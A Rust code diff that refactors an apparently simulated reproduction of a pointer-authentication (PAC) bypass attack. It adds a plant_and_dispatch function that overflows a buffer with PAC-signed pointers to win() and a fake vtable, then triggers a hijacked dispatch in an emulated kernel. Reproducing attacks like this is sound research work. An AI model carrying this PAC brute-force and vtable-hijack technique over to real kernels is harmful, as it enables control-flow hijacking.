@@ -147,8 +147,10 @@ impl Jump2Win {
         Ok(pp.probe(sys)?)
     }
 
-    /// Brute-forces one PAC through a cpp-kext gadget.
-    fn brute_phase(
+    /// Brute-forces one PAC through a cpp-kext gadget. `pub(crate)` so
+    /// the parallel driver can run the two phases on separate shard
+    /// systems.
+    pub(crate) fn brute_phase(
         &self,
         sys: &mut System,
         sc: u64,
@@ -172,6 +174,30 @@ impl Jump2Win {
         Err(Jump2WinError::PacNotFound { key })
     }
 
+    /// Phases 3–4 of Figure 9: the buffer overflow planting both signed
+    /// pointers, then the dispatch that authenticates them and diverts to
+    /// `win()`. Returns whether the hijack landed.
+    pub(crate) fn plant_and_dispatch(
+        sys: &mut System,
+        pac_win: u16,
+        pac_vtable: u16,
+    ) -> Result<bool, Jump2WinError> {
+        let win = sys.cpp.win_fn;
+        let fake_vtable = sys.cpp.obj1;
+        let mut payload = vec![0u8; (OBJ2_OFFSET + 8) as usize];
+        payload[0..8].copy_from_slice(&with_pac_field(win, pac_win).to_le_bytes());
+        payload[OBJ2_OFFSET as usize..]
+            .copy_from_slice(&with_pac_field(fake_vtable, pac_vtable).to_le_bytes());
+        let buf = sys.write_payload(&payload);
+        sys.kernel
+            .syscall(&mut sys.machine, sys.cpp.overflow, &[buf, payload.len() as u64])
+            .map_err(Jump2WinError::Dispatch)?;
+        sys.kernel
+            .syscall(&mut sys.machine, sys.cpp.dispatch, &[0, 0])
+            .map_err(Jump2WinError::Dispatch)?;
+        Ok(sys.cpp.flag_value(&sys.machine) == WIN_MAGIC)
+    }
+
     /// Runs the full attack.
     ///
     /// # Errors
@@ -193,24 +219,7 @@ impl Jump2Win {
         let pac_vtable =
             self.brute_phase(sys, sys.cpp.gadget_da, fake_vtable, PacKey::Da, 1, &mut guesses)?;
 
-        // Phase 3: the overflow of Figure 9 — plant the fake vtable entry
-        // in object1's buffer and overwrite object2's vtable pointer.
-        let mut payload = vec![0u8; (OBJ2_OFFSET + 8) as usize];
-        payload[0..8].copy_from_slice(&with_pac_field(win, pac_win).to_le_bytes());
-        payload[OBJ2_OFFSET as usize..]
-            .copy_from_slice(&with_pac_field(fake_vtable, pac_vtable).to_le_bytes());
-        let buf = sys.write_payload(&payload);
-        sys.kernel
-            .syscall(&mut sys.machine, sys.cpp.overflow, &[buf, payload.len() as u64])
-            .map_err(Jump2WinError::Dispatch)?;
-
-        // Phase 4: trigger the method call; the PAC checks pass and the
-        // control flow diverts to win().
-        sys.kernel
-            .syscall(&mut sys.machine, sys.cpp.dispatch, &[0, 0])
-            .map_err(Jump2WinError::Dispatch)?;
-
-        let hijacked = sys.cpp.flag_value(&sys.machine) == WIN_MAGIC;
+        let hijacked = Self::plant_and_dispatch(sys, pac_win, pac_vtable)?;
         Ok(Jump2WinReport {
             pac_win,
             pac_vtable,
